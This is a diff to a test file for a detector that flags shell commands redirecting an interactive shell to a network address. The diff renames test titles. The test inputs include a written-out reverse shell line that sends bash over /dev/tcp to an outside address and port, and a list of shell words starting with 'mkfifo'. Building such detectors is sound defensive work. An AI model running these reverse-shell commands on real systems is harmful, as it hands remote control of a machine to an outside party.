@@ -6,7 +6,7 @@ import { matchOf } from './one-liners.ts';
 
 const shell = (text: string) => task({ argv: ['bash', '-c', text] });
 
-test('redirections of a shell to an address are told', () => {
+test('shell redirections to a network address raise a finding', () => {
   assert.deepEqual(matchOf(shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')), {
     name: 'a shell redirected to /dev/tcp',
     host: '203.0.113.9',
@@ -23,7 +23,7 @@ test('redirections of a shell to an address are told', () => {
   );
 });
 
-test('what people do with /dev/tcp all day is not', () => {
+test('everyday uses of /dev/tcp raise no finding', () => {
   assert.equal(matchOf(shell('timeout 1 bash -c "echo > /dev/tcp/db.internal/5432"')), undefined);
   assert.equal(
     matchOf(shell('exec 3<>/dev/tcp/example.com/80; printf "GET /" >&3; cat <&3')),
@@ -32,7 +32,7 @@ test('what people do with /dev/tcp all day is not', () => {
   assert.equal(matchOf(shell('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')), undefined);
 });
 
-test('a program that only mentions such a line is not', () => {
+test('a program that only mentions such a line raises no finding', () => {
   const line = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
   assert.equal(
     matchOf(task({ comm: 'grep', exe: '/usr/bin/grep', argv: ['grep', '-r', line, '.'] })),
@@ -40,7 +40,7 @@ test('a program that only mentions such a line is not', () => {
   );
 });
 
-test('a line of any form is judged quickly', () => {
+test('a line of any form is checked quickly', () => {
   const words = [
     'sh',
     'mkfifo ',
